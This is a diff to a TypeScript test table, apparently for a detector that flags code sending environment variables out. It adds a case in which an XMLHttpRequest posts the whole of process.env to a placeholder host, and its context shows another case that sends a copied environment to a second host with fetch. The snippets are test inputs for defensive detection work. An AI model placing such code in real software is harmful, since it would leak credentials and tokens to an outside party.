@@ -182,6 +182,11 @@ const CASES: Record<string, Case[]> = {
       ],
     ],
     [
+      'an XMLHttpRequest opened and sent',
+      `const x = new XMLHttpRequest();\nx.open('POST', 'https://c.example.com/u');\nx.send(JSON.stringify(process.env));`,
+      [net('send', { target: 'https://c.example.com/u', sends: ['environment'], line: 2 })],
+    ],
+    [
       'the environment copied key by key and by a helper',
       `const snap = {};\nfor (const k in process.env) snap[k] = process.env[k];\nfunction post(d) { return fetch('https://h.example.net', { method: 'POST', body: d }); }\npost(JSON.stringify(snap));`,
       [env('dump', { line: 2 }), net('send', { sends: ['environment'] })],
